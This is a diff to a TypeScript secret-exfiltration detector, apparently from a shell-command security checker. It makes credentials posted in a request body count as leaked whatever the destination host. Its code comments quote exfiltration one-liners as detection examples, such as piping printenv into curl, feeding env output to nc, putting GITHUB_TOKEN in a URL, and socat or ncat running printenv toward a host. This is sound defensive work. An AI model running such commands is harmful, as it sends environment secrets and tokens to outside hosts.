@@ -82,8 +82,9 @@ function expandedVariables(raw: string): string[] {
  * destinations are not all known to be among them (network-sinks.ts sinkHosts: https URLs of curl
  * or wget, nothing that could send them elsewhere).
  */
-function leaks(secret: Secret, sink: Sink): boolean {
-  return !(secret.hosts.length && sink.hosts?.length && sink.hosts.every((h) => hostIn(h, secret.hosts)));
+function leaks(secret: Secret, sink: Sink, asBody = false): boolean {
+  const to = sink.destination;
+  return asBody || !(secret.hosts.length && to && to.hosts.every((h) => hostIn(h, secret.hosts)));
 }
 
 /** The output redirections that write a file (`>`, `>>`, `>|`, `&>`, `&>>`, `<>`). */
@@ -113,14 +114,16 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
   // the stages that print secrets in each pipeline a sink reads stdin from: each reaches every stage after it
   const printers = stagesPrinting(calls, new Set(sinks.filter((x) => x.sink.stdin).map((x) => x.c.pipeline)), printedAt);
   for (const { c: d, sink } of sinks) {
-    const leaked = (secret: Secret | null) => (secret && leaks(secret, sink) ? secret : null);
+    // what it reads on stdin and the files it sends are its body: a credential there is posted as data, its leak wherever it goes
+    const leaked = (secret: Secret | null, asBody = true) => (secret && leaks(secret, sink, asBody) ? secret : null);
+    const inBody = (w: Word) => sink.destination?.body.has(w) ?? false;
     // piped into its stdin (`printenv | curl -d @-`), directly or through later stages
     if (sink.stdin) {
       const k = printers.get(d.pipeline)?.find((at) => calls[at]!.index < d.index && leaked(printedAt(at)));
       if (k !== undefined) return finding(printedAt(k)!, sink.program);
       // a here-string or heredoc made by a printer (`nc h 1 <<< "$(env)"`), a process substitution (`nc h 1 < <(env)`), a credential's variable (`<<< "$GITHUB_TOKEN"`)
       const fed =
-        scriptsPrint(d.inv.command.redirects.flatMap(inputScripts), sink) ??
+        scriptsPrint(d.inv.command.redirects.flatMap(inputScripts), sink, null, true) ??
         leaked(wordsSecret(d.inv.command.redirects.flatMap((r) => (r.op === '<<<' && r.target ? [r.target] : []))));
       if (fed) return finding(fed, sink.program);
     }
@@ -133,7 +136,8 @@ export function checkExfiltration(calls: PipedInvocation[]): Finding | null {
       );
     // its arguments, made by a printer (`curl -d "$(env)"`, `curl -H "X: $(printenv)"`) or holding a credential's variable (`curl "https://x/?t=$GITHUB_TOKEN"`)
     const made =
-      d.inv.command.words.reduce<Secret | null>((m, w) => m ?? scriptsPrint(w.subs, sink, ownVariable(w, d.inv)), null) ?? leaked(wordsSecret(d.inv.args));
+      d.inv.command.words.reduce<Secret | null>((m, w) => m ?? scriptsPrint(w.subs, sink, ownVariable(w, d.inv), inBody(w)), null) ??
+      d.inv.args.reduce<Secret | null>((m, w) => m ?? leaked(wordsSecret([w]), inBody(w)), null);
     if (made) return finding(made, sink.program);
     // a program it runs and sends the output of (`socat EXEC:env TCP:h:80`, `ncat --sh-exec printenv h 1`)
     const ran = scriptsPrint(
@@ -206,12 +210,12 @@ function inputScripts(r: Redirect): Script[] {
 }
 
 /** The first secret a command of these scripts prints (any stage: what a substitution makes is all its output) that `sink` would leak, or null. */
-function scriptsPrint(scripts: readonly Script[], sink: Sink, own: Secret | null = null): Secret | null {
+function scriptsPrint(scripts: readonly Script[], sink: Sink, own: Secret | null = null, asBody = false): Secret | null {
   for (const s of scripts)
     for (const cmd of s.commands) {
       const inv = unwrap(cmd).invocation;
       const secret = inv && printedSecret(inv);
-      if (secret && leaks(secret, sink) && !(own && secret.hosts === own.hosts)) return secret;
+      if (secret && leaks(secret, sink, asBody) && !(own && secret.hosts === own.hosts)) return secret;
     }
   return null;
 }
